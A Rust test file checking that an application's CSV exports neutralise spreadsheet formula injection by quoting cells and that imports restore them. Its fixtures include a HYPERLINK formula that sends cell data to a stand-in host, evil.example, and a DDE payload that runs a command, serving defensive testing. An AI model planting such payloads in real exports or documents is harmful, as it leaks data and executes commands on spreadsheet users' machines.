//! CSV injection (issue 19, item 6): text that starts like a formula goes
//! out behind a `'` so a spreadsheet shows it as text, the amounts stay
//! plain numbers, and the import reads every such cell back unchanged.

use crate::common::{GBR, MINISTERS, today};
use coalition_desk::document::{Document, Origin};
use coalition_desk::model::{CommitmentId, MeetingId, Register};
use coalition_desk::tracking::spreadsheet_cells::{neutralised, restored};
use coalition_desk::tracking::{self, since_last_session};
use proptest::prelude::*;

use super::fixture::*;

const HYPERLINK: &str = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")";
const DDE: &str = "+cmd|' /C calc'!A0";

/// Two sessions whose texts start the ways a spreadsheet takes for a
/// formula, and one already behind a quote of its own.
fn hostile() -> Register {
    let mut r = two_sessions();
    r.participants.get_mut(&GBR).unwrap().name = "@SUM(A1:A9)".into();
    r.capability_areas.push("-Demining".into());
    let missiles = r.commitments.get_mut(&CommitmentId(20)).unwrap();
    missiles.title = HYPERLINK.into();
    missiles.description = DDE.into();
    missiles.quantity.as_mut().unwrap().unit = "@SUM(A1)".into();
    missiles.conditions = "\t=1+1".into();
    let demining = r.commitments.get_mut(&CommitmentId(21)).unwrap();
    demining.title = "'=already quoted".into();
    demining.area = "-Demining".into();
    demining.conditions = "\r=2+2".into();
    r.meetings.get_mut(&MINISTERS).unwrap().actions[0].text = HYPERLINK.into();
    r
}

fn cells(bytes: &[u8]) -> Vec<csv::StringRecord> {
    let bytes = bytes.strip_prefix(b"\xEF\xBB\xBF").unwrap();
    csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(bytes)
        .records()
        .map(Result::unwrap)
        .collect()
}

fn starts_like_formula(cell: &str) -> bool {
    cell.starts_with(['=', '+', '-', '@', '\t', '\r'])
}

#[test]
fn no_commitment_cell_starts_like_a_formula_and_amounts_stay_numbers() {
    let bytes = tracking::export_commitments(&hostile(), today()).unwrap();
    let rows = cells(&bytes);
    let header = rows[0].clone();
    for row in &rows[1..] {
        for (column, cell) in header.iter().zip(row) {
            assert!(!starts_like_formula(cell), "{column}: {cell:?}");
            if ["quantity", "delivered", "value", "paid"].contains(&column) {
                assert!(
                    cell.chars().all(|c| c.is_ascii_digit() || c == '.'),
                    "{column} is a bare number: {cell:?}"
                );
            }
        }
    }
    let missiles = rows.iter().find(|r| &r[0] == "20").unwrap();
    let column = |name: &str| header.iter().position(|h| h == name).unwrap();
    assert_eq!(&missiles[column("title")], format!("'{HYPERLINK}"));
    assert_eq!(&missiles[column("description")], format!("'{DDE}"));
    assert_eq!(&missiles[column("participant name")], "'@SUM(A1:A9)");
    assert_eq!(&missiles[column("unit")], "'@SUM(A1)");
    assert_eq!(&missiles[column("conditions")], "'\t=1+1");
    assert_eq!(&missiles[column("quantity")], "5000");
    let demining = rows.iter().find(|r| &r[0] == "21").unwrap();
    assert_eq!(&demining[column("title")], "''=already quoted");
    assert_eq!(&demining[column("area")], "'-Demining");
    assert_eq!(&demining[column("conditions")], "'\r=2+2");
}

#[test]
fn neutralised_cells_import_back_as_they_were() {
    let original = hostile();
    let bytes = tracking::export_commitments(&original, today()).unwrap();
    let mut changed = original.clone();
    for c in changed.commitments.values_mut() {
        c.title = "edited".into();
        c.description.clear();
        c.conditions.clear();
        if let Some(q) = c.quantity.as_mut() {
            q.unit = "edited".into();
        }
    }
    let preview = tracking::import_commitments(&changed, &bytes, today()).unwrap();
    assert!(preview.rejected.is_empty(), "{:?}", preview.rejected);
    let mut doc = Document::new(changed, Origin::Untitled);
    doc.apply(preview.edit()).unwrap();
    assert_eq!(doc.register().commitments, original.commitments);
}

#[test]
fn no_since_last_session_cell_starts_like_a_formula() {
    let r = hostile();
    let changes = since_last_session(&r, MeetingId(41)).unwrap();
    let bytes = tracking::since::changes_csv(&r, &changes).unwrap();
    let rows = cells(&bytes);
    assert!(rows.iter().flatten().all(|cell| !starts_like_formula(cell)));
    let texts: Vec<&str> = rows.iter().map(|row| &row[3]).collect();
    assert!(
        texts.contains(&format!("'{HYPERLINK}").as_str()),
        "{texts:?}"
    );
}

proptest! {
    #[test]
    fn any_text_survives_and_never_starts_a_formula(
        text in "(['=+@\\t\\r-]{0,3})(\\PC|[\\t\\r\\n']){0,12}"
    ) {
        let cell = neutralised(&text);
        prop_assert!(!starts_like_formula(&cell), "{:?}", cell);
        prop_assert_eq!(restored(&cell), text.as_str());
    }
}
